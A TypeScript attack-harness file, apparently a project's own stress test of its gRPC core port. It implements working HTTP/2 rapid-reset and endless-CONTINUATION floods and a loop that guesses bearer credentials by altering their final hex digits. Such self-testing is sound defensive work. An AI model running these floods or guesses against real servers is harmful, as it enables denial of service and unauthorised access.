import { randomBytes } from "node:crypto";
import http2 from "node:http2";
import { setTimeout as wait } from "node:timers/promises";
import { type Attacker, inParallel, openFrom, runAttack } from "../harness/attack.ts";

/** What an attack needs. One attack sends changed copies of the credential. */
type DoorTarget = Attacker & { readonly port: number; readonly credential: string };

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const FRAME = { headers: 1, reset: 3, settings: 4, continuation: 9 } as const;
const GREETING = Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, Buffer.alloc(0))]);
const PATH = "/activity.ingest.v1.DonationService/CreateDonation";
const END_OF_STREAM_AND_HEADERS = 5;
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** The headers of a call, uncompressed. */
const HEADER_BLOCK = Buffer.concat(
  Object.entries({ ":scheme": "http", ":authority": "core", ...headersOf({}) }).map(literalField),
);
/** The number of open calls with made-up credentials, over ten connections. */
export const MADE_UP_AT_ONCE = 100;
const bearer = (text: string) => ({ authorization: `Bearer ${text}` });

/**
 * Attacks on the core's port. They last until their process ends. `before-the-body.test.ts` and the tests in
 * `server/src/rpc` test the bounds of messages, heads, connections, streams and reflection.
 */
export const DOOR_ATTACKS = {
  "rapid resets": (target) =>
    inParallel(10, async () => {
      for (;;) {
        const socket = await open(target);
        socket.resume();
        socket.write(GREETING);
        for (let stream = 1; socket.writable; ) {
          const frames: Buffer[] = [];
          for (; frames.length < 100; stream += 2) {
            frames.push(frame(FRAME.headers, END_OF_STREAM_AND_HEADERS, stream, HEADER_BLOCK));
            frames.push(frame(FRAME.reset, 0, stream, CANCEL));
            target.count("sent");
          }
          socket.write(Buffer.concat(frames));
          await wait(20);
        }
        socket.destroy();
        await wait(100);
      }
    }),

  "CONTINUATION frames without end": (target) =>
    inParallel(20, async () => {
      for (;;) {
        const socket = await open(target);
        socket.resume();
        socket.write(Buffer.concat([GREETING, frame(FRAME.headers, 0, 1, randomBytes(1000))]));
        while (socket.writable) {
          socket.write(frame(FRAME.continuation, 0, 1, randomBytes(16_000)));
          target.count("sent");
          await wait(10);
        }
        socket.destroy();
        await wait(100);
      }
    }),

  "made-up credentials": (target) =>
    inParallel(10, async () => {
      const session = await openSession(target);
      await inParallel(MADE_UP_AT_ONCE / 10, async () => {
        while (!session.destroyed) {
          target.count("sent");
          const madeUp = target.credential.replace(/[0-9a-f]{8}$/, randomBytes(4).toString("hex"));
          target.count(`status ${await statusOf(session, bearer(madeUp))}`);
          await wait(20);
        }
      });
    }),
} satisfies Record<string, (target: DoorTarget) => Promise<unknown>>;

function headersOf(headers: Record<string, string>) {
  const call = { ":method": "POST", ":path": PATH, "content-type": "application/grpc+proto" };
  return { ...call, te: "trailers", ...headers };
}

/** Makes a call. Returns its gRPC status, or "none". */
function statusOf(
  session: http2.ClientHttp2Session,
  headers: Record<string, string>,
): Promise<string> {
  return new Promise((resolve) => {
    const stream = session.request(headersOf(headers));
    const told = (trailers: http2.IncomingHttpHeaders) => {
      if (trailers["grpc-status"] !== undefined) resolve(`${trailers["grpc-status"]}`);
    };
    stream
      .on("response", told)
      .on("trailers", told)
      .on("error", () => {});
    stream.on("close", () => resolve("none"));
    stream.resume();
    stream.end(Buffer.alloc(5));
  });
}

async function openSession(target: DoorTarget): Promise<http2.ClientHttp2Session> {
  const socket = await open(target);
  const session = http2.connect("http://core", { createConnection: () => socket });
  return session.on("error", () => target.count("errors"));
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Encodes a header field for HPACK, without HPACK's tables and Huffman codes. */
function literalField([name, value]: [string, string]): Buffer {
  const texts = [name, value].map((text) => [Buffer.of(text.length), Buffer.from(text)]);
  return Buffer.concat([Buffer.of(0), ...texts.flat()]);
}

const open = (target: DoorTarget) => openFrom(target, target.port);

if (import.meta.main) {
  await runAttack(DOOR_ATTACKS, ([port, credential = ""]) => ({ port: Number(port), credential }));
}
